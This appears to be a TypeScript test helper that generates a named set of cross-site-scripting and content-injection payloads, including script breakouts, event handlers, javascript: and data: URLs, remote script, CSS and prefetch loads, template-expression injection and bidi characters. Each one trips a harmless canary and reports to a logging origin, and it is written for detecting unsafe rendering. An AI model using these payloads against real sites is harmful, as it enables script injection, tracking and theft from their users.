/** Texts that run, load or store something wherever they are taken for more than texts. */

/** What every payload says when it runs; nothing of the page's own says it. */
export const CANARY = 'canary-9f3b';

/** A script that trips every wire: a global, the title, a dialog, the console, a request, a store. */
const scriptFor = (foreign: string): string =>
  `globalThis['${CANARY}']=1;document.title='${CANARY}';localStorage['${CANARY}']=1;console.log('${CANARY}');fetch('${foreign}/ran');alert('${CANARY}')`;

/** Payloads by name. `foreign`: origin of a server that notes who asks. */
export function payloads(foreign: string): Record<string, string> {
  const script = scriptFor(foreign);
  const quoted = script.replaceAll("'", '&#39;');
  return {
    'a script element': `<script>${script}</script>`,
    'a script that closes what is around it': `</script></style></title></textarea>"'>--><script>${script}</script>`,
    'a remote script': `<script src="${foreign}/script.js"></script>`,
    'a picture that fails': `<img src=x onerror="${quoted}">`,
    'a remote picture': `<img src="${foreign}/picture.png">`,
    'an SVG with a handler': `<svg xmlns="http://www.w3.org/2000/svg" onload="${quoted}"><script>${script}</script></svg>`,
    'a frame with a document': `<iframe srcdoc="&lt;script&gt;parent.${CANARY.replace('-', '_')}=1&lt;/script&gt;"></iframe>`,
    'a frame with a script address': `<iframe src="javascript:${quoted}"></iframe>`,
    'an address that is a script': `javascript:${script}`,
    'an address that is a script, hidden': `java\tscript:${script}`,
    'an address that is a document': `data:text/html,<script>${script}</script>`,
    'a markdown link to a script': `[press here](javascript:${encodeURIComponent(script)})`,
    'a markdown picture elsewhere': `![shot](${foreign}/shot.png)`,
    'a refresh': `<meta http-equiv="refresh" content="0;url=${foreign}/refresh">`,
    'a style sheet elsewhere': `<style>@import url(${foreign}/style.css); * { background: url(${foreign}/dot.png) }</style>`,
    'a prefetch': `<link rel="prefetch" href="${foreign}/prefetch"><link rel="dns-prefetch" href="${foreign}">`,
    'a base': `<base href="${foreign}/">`,
    'a form': `<form action="${foreign}/form"><button autofocus onfocus="${quoted}">x</button></form>`,
    'a template expression': `{{constructor.constructor("${script}")()}}\${${script}}`,
    'text that turns round': '\u202e\u2066gnihtemos\u2069\u0000\u200b',
  };
}
